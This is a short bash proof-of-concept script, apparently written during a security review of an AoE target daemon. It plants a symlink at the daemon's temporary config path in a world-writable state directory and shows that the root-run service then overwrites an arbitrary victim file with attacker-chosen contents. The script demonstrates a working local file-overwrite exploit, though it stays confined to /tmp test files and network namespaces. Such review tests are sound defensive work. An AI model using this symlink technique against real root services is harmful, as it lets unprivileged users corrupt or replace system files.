#!/bin/bash
# A symlink planted in state_dir makes aoe-target (root) overwrite the file it points to.
# Needs review/ns.sh up first (namespaces rvA/rvB).
set -u
B=/work/wt-review2/target/debug
rm -rf /tmp/rv_state /tmp/rv_victim; mkdir -m 0777 /tmp/rv_state
echo "precious contents" > /tmp/rv_victim
ln -s /tmp/rv_victim /tmp/rv_state/.e5.0.toml.tmp
truncate -s 16M /tmp/rv5.img
cat > /tmp/rv5.toml <<T
state_dir = "/tmp/rv_state"
[[export]]
shelf = 5
slot = 0
interfaces = ["rvA0"]
file = "/tmp/rv5.img"
T
ip netns exec rvA timeout 30 $B/aoe-target --config /tmp/rv5.toml 2>/tmp/rv5.log & 
sleep 1.5
ip netns exec rvB timeout 10 $B/aoe config e5.0 set "owned" ; echo "config set rc=$?"
sleep 0.5
echo "victim now:"; cat /tmp/rv_victim; ls -la /tmp/rv_state
kill %1 2>/dev/null; wait
